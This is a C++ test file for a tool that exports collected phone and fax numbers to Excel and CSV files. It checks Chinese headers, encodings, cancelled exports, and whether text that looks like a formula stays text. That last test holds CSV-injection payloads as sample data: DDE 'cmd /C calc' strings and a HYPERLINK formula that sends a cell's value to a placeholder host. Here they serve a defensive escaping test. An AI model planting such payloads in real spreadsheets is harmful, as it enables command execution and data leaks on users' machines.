// Export: the workbook read back by openpyxl (numbers as text, Chinese
// header, columns sized), the CSV bytes in both encodings, and a cancelled
// export that leaves nothing behind.
#include "files/store/store_export.h"

#include <QProcess>

#include "store_fixture.h"
#include "text/gbk.h"

namespace valo::files::store::testing {
namespace {

class Export : public StoreFixture {
 protected:
  void SetUp() override {
    StoreFixture::SetUp();
    seed({"013912345678", "2026-12-01T08:00:00", "mobile", "江苏省南京市", "南京 机械", "传真：013912345678"});
    seed({"0755-12345678", "2026-12-02T09:30:00", "fixed", "广东省深圳市", "深圳, \"五金\"", "深圳某某机械有限公司 传真：0755-12345678"});
  }
  // openpyxl's view of the first sheet: each cell as type:value, and the widths.
  QString readBack(const QString& file) {
    QProcess python;
    // Debian's own interpreter, whose python3-openpyxl the install script brings.
    python.start(QStringLiteral("/usr/bin/python3"),
                 {QStringLiteral("-c"), QStringLiteral("import sys, openpyxl\n"
                                                       "ws = openpyxl.load_workbook(sys.argv[1]).worksheets[0]\n"
                                                       "for row in ws.iter_rows():\n"
                                                       "    print('|'.join(c.data_type + ':' + str(c.value or '') for c in row))\n"
                                                       "print(ws.column_dimensions['A'].width > 12, ws.column_dimensions['H'].width > 30)\n"),
                  file});
    EXPECT_TRUE(python.waitForFinished(60000));
    EXPECT_EQ(python.exitCode(), 0) << python.readAllStandardError().toStdString();
    return QString::fromUtf8(python.readAllStandardOutput());
  }
};

TEST_F(Export, WorkbookHoldsTheNumbersAsTextUnderAChineseHeader) {
  StoreQuery query(db, {});
  const ExportOutcome outcome = exportRows(query, path("号码.xlsx"), ExportFormat::Xlsx);
  EXPECT_EQ(outcome.rows, 2);
  const QStringList lines = readBack(path("号码.xlsx")).split(QLatin1Char('\n'));
  ASSERT_GE(lines.size(), 4);
  EXPECT_TRUE(lines[0].startsWith(QStringLiteral("s:号码|s:首次发现|s:最近发现|s:次数|"))) << lines[0].toStdString();
  EXPECT_TRUE(lines[1].startsWith(QStringLiteral("s:013912345678|s:2026-12-01T08:00:00|"))) << lines[1].toStdString();
  EXPECT_TRUE(lines[1].contains(QStringLiteral("|s:是|s:手机|s:江苏省南京市|"))) << lines[1].toStdString();
  EXPECT_TRUE(lines[2].startsWith(QStringLiteral("s:0755-12345678|"))) << lines[2].toStdString();
  EXPECT_EQ(lines[3], QStringLiteral("True True"));
  EXPECT_EQ(otherFiles(), QStringList{QStringLiteral("号码.xlsx")});
}

TEST_F(Export, CsvIsUtf8WithAByteOrderMarkOrGbkOnRequest) {
  const std::string expected =
      "号码,首次发现,最近发现,次数,首个关键字,首个引擎,首个网页地址,来源行,有效,类型,地区,导入来源\r\n"
      "013912345678,2026-12-01T08:00:00,2026-12-01T08:00:00,1,南京 机械,,,传真：013912345678,是,手机,江苏省南京市,\r\n"
      "0755-12345678,2026-12-02T09:30:00,2026-12-02T09:30:00,1,\"深圳, \"\"五金\"\"\",,,"
      "深圳某某机械有限公司 传真：0755-12345678,是,固定电话,广东省深圳市,\r\n";
  StoreQuery query(db, {});
  exportRows(query, path("utf8.csv"), ExportFormat::CsvUtf8);
  exportRows(query, path("gbk.csv"), ExportFormat::CsvGbk);
  EXPECT_EQ(readAll(path("utf8.csv")).toStdString(), "\xEF\xBB\xBF" + expected);
  EXPECT_EQ(readAll(path("gbk.csv")).toStdString(), gbk(expected));
}

// Text from pages that a spreadsheet would run as a formula: in CSV it gets
// a leading "'", in the workbook it stays a string exactly as stored. The
// number and the count are written as they are.
TEST_F(Export, TextThatLooksLikeAFormulaStaysText) {
  const struct {
    const char* text;      // keyword and source line of the row
    const char* csvField;  // how the CSV writes it
    const char* workbookCell = nullptr;  // how openpyxl reads it back, when not as text
  } cases[] = {
      {"=HYPERLINK(\"http://x.example/?\"&A2,\"传真：0755-26543210\")",
       "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2,\"\"传真：0755-26543210\"\")\""},
      {"+86 21 5385 3022", "'+86 21 5385 3022"},
      {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
      {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
      {"\t=1+1", "'\t=1+1"},
      // The workbook escapes a carriage return the OOXML way, which Excel
      // reads back as one and openpyxl leaves as it is.
      {"\r=1+1", "\"'\r=1+1\"", "s:_x000D_=1+1"},
      {"深圳 机械 传真：0755-12345678", "深圳 机械 传真：0755-12345678"},
      {"a=1+1", "a=1+1"},
      {" =1+1", " =1+1"},
      {"", "", "n:"},
  };
  db.exec("DELETE FROM numbers", "empty");
  std::string expectedCsv = "号码,首次发现,最近发现,次数,首个关键字,首个引擎,首个网页地址,来源行,有效,类型,地区,导入来源\r\n";
  std::vector<std::string> numbers;
  for (const auto& c : cases) {
    numbers.push_back("021-5385302" + std::to_string(numbers.size()));
    seed({numbers.back().c_str(), "2026-12-01T08:00:00", "fixed", "上海市", c.text, c.text});
    expectedCsv += numbers.back() + ",2026-12-01T08:00:00,2026-12-01T08:00:00,1," + c.csvField + ",,," + c.csvField +
                   ",是,固定电话,上海市,\r\n";
  }
  StoreQuery query(db, {});
  exportRows(query, path("utf8.csv"), ExportFormat::CsvUtf8);
  exportRows(query, path("gbk.csv"), ExportFormat::CsvGbk);
  exportRows(query, path("rows.xlsx"), ExportFormat::Xlsx);
  EXPECT_EQ(readAll(path("utf8.csv")).toStdString(), "\xEF\xBB\xBF" + expectedCsv);
  EXPECT_EQ(readAll(path("gbk.csv")).toStdString(), gbk(expectedCsv));

  // The workbook's number, count, keyword and source line cells: type and
  // the text's UTF-8 bytes in hex.
  QProcess python;
  python.start(QStringLiteral("/usr/bin/python3"),
               {QStringLiteral("-c"), QStringLiteral("import sys, openpyxl\n"
                                                     "ws = openpyxl.load_workbook(sys.argv[1]).worksheets[0]\n"
                                                     "for row in ws.iter_rows(min_row=2):\n"
                                                     "    print(' '.join(c.data_type + ':' + (c.value or '').encode().hex()"
                                                     " for c in (row[0], row[3], row[4], row[7])))\n"),
                path("rows.xlsx")});
  ASSERT_TRUE(python.waitForFinished(60000));
  const QStringList lines = QString::fromUtf8(python.readAllStandardOutput()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
  ASSERT_EQ(lines.size(), static_cast<qsizetype>(std::size(cases))) << python.readAllStandardError().toStdString();
  for (std::size_t i = 0; i < std::size(cases); ++i) {
    const auto hex = [](const std::string& bytes) { return QByteArray::fromStdString(bytes).toHex().toStdString(); };
    std::string cell = "s:" + hex(cases[i].text);
    if (const char* w = cases[i].workbookCell) cell = std::string(w, 2) + hex(w + 2);
    EXPECT_EQ(lines[static_cast<qsizetype>(i)].toStdString(), "s:" + hex(numbers[i]) + " s:" + hex("1") + " " + cell + " " + cell)
        << cases[i].text;
  }
}

TEST_F(Export, ACancelLeavesNoFileAndKeepsTheOneThatWasThere) {
  db.exec("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5000) "
          "INSERT INTO numbers (number, valid, kind, first_seen, last_seen) "
          "SELECT printf('021-%08d', i), 1, 'fixed', 'x', 'x' FROM n",
          "fill");
  writeAll(path("kept.csv"), "old");
  for (const ExportFormat format : {ExportFormat::Xlsx, ExportFormat::CsvUtf8, ExportFormat::CsvGbk}) {
    StoreQuery query(db, {});
    std::int64_t lastTotal = 0;
    const ExportOutcome outcome = exportRows(query, path("new.xlsx"), format, [&](std::int64_t, std::int64_t total) {
      lastTotal = total;
      return false;
    });
    EXPECT_TRUE(outcome.cancelled);
    EXPECT_EQ(lastTotal, 5002);
    exportRows(query, path("kept.csv"), format, [](std::int64_t, std::int64_t) { return false; });
    EXPECT_EQ(otherFiles(), QStringList{QStringLiteral("kept.csv")});
    EXPECT_EQ(readAll(path("kept.csv")), "old");
  }
  // A folder that does not exist is a failure, never a success.
  StoreQuery query(db, {});
  EXPECT_THROW(exportRows(query, path("no/such/folder.xlsx"), ExportFormat::Xlsx), AppError);
  EXPECT_THROW(exportRows(query, path("no/such/folder.csv"), ExportFormat::CsvUtf8), AppError);
}

}  // namespace
}  // namespace valo::files::store::testing
